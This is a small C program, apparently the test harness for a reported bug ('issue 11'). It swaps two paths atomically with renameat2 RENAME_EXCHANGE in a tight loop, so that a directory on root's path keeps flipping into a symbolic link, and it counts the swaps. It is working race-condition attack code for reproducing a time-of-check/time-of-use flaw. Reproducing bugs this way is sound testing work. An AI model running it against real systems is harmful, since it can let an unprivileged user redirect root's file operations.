/*
 * The attacker of issue 11: exchanges two names atomically (renameat2 RENAME_EXCHANGE) as fast as
 * it can, so a directory on root's path keeps turning into a symbolic link and back.
 * usage: swapper A B SECONDS; prints the number of exchanges.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: swapper A B SECONDS\n");
        return 2;
    }
    time_t end = time(NULL) + atoi(argv[3]);
    long swaps = 0;
    while (time(NULL) < end) {
        for (int i = 0; i < 1000; i++) {
            if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0) {
                swaps++;
            }
        }
    }
    printf("%ld\n", swaps);
    return 0;
}
